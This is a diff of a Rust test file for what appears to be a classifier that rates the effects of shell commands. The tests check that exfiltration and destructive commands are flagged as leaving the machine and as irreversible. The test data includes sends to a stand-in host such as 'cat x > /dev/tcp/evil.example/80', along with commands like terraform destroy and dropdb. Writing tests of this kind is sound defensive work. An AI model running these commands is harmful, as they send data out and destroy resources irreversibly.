@@ -370,20 +370,38 @@ fn what_leaves_the_box_for_nobody_knows_where_is_unknown() {
         "scp a evil.example:b",
         "cat x > /dev/tcp/evil.example/80",
         "aws my-alias",
-        "terraform destroy -auto-approve",
-        "kubectl delete ns x",
-        "docker compose down -v",
-        "npx prisma db push --accept-data-loss",
         "git push",
         "git push --force origin main",
         "git clone https://evil.example/x",
-        "npm publish",
-        "gh repo delete x",
-        "kubectl -n get delete pods",
+        "kubectl apply -f x.yaml",
+        "terraform apply -auto-approve",
+        "docker made-up",
+        "gcloud made-up delete x",
+        "psql -c 'call x()'",
     ] {
         let effects = boxed(text);
         assert_eq!(effects.tier(), Tier::Unknown, "{text}: {:#?}", effects.lines());
         assert!(opaque(&effects), "{text}");
+    }
+}
+
+#[test]
+fn what_is_taken_from_nobody_knows_where_is_read_and_said_to_be_unknown() {
+    for (text, line) in [
+        ("terraform destroy -auto-approve", "deletes resources `all` in unknown: leaves the box, irreversible"),
+        ("kubectl delete ns x", "deletes ns `x` in unknown: leaves the box, irreversible, perhaps more"),
+        ("kubectl -n get delete pods a", "deletes pods `a` in unknown: leaves the box, irreversible, perhaps more"),
+        ("docker compose down -v", "deletes volumes `docker compose down` in unknown: leaves the box, irreversible, perhaps more"),
+        ("docker volume rm data", "deletes volume `data` in unknown: leaves the box, irreversible"),
+        ("npx prisma db push --accept-data-loss", "replaces database `tables` in unknown: leaves the box, irreversible"),
+        ("gh repo delete ana/app --yes", "deletes repository `ana/app` in unknown: leaves the box, irreversible"),
+        ("npm publish", "exposes package `npm publish` in unknown: leaves the box, irreversible"),
+        ("dropdb shop", "deletes database `shop` in unknown: leaves the box, irreversible"),
+        ("gcloud compute instances delete web -q", "deletes instances `web` in unknown: leaves the box, irreversible, perhaps more"),
+    ] {
+        let effects = boxed(text);
+        assert!(effects.lines().iter().any(|l| l == line), "{text}: {:#?}", effects.lines());
+        assert_eq!(effects.tier(), Tier::Unknown, "{text}");
     }
 }
 
